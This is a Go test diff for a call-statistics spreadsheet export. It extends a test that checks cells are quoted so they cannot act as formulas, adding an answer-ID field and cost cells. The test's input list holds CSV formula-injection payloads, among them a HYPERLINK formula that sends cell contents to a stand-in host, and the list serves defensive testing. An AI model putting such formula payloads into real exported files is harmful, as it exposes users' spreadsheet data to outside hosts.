@@ -7,6 +7,7 @@ import (
 	"strings"
 	"testing"
 
+	"callgate/internal/pricing"
 	"callgate/internal/stats"
 )
 
@@ -16,7 +17,7 @@ func TestNoCellOfCallsIsAFormula(t *testing.T) {
 		`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\n", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1", "\u00a0=1", "\u200b=1", "\x00=1",
 	} {
 		var c stats.Call
-		c.Model, c.UpstreamModel, c.EndedBy, c.UsageState = evil, evil, evil, evil
+		c.Model, c.UpstreamModel, c.EndedBy, c.UsageState, c.AnswerID = evil, evil, evil, evil, evil
 		c.Reason = &stats.FailureReason{Type: evil, Code: evil, Message: &evil}
 		var out bytes.Buffer
 		file, err := NewSheet(&out, CallColumns)
@@ -26,7 +27,7 @@ func TestNoCellOfCallsIsAFormula(t *testing.T) {
 		if out.Len() != 0 {
 			t.Error("something is sent before there is a line")
 		}
-		if err := file.Line(exportLine(c)); err != nil {
+		if err := file.Line(append(exportLine(c), costCells(pricing.NewBook(nil), c)...)); err != nil {
 			t.Fatal(err)
 		}
 		if err := file.Flush(); err != nil {
@@ -43,7 +44,7 @@ func TestNoCellOfCallsIsAFormula(t *testing.T) {
 				quoted++
 			}
 		}
-		if quoted != 7 {
+		if quoted != 8 {
 			t.Errorf("%q: %d cells are quoted of %q", evil, quoted, lines[1])
 		}
 	}
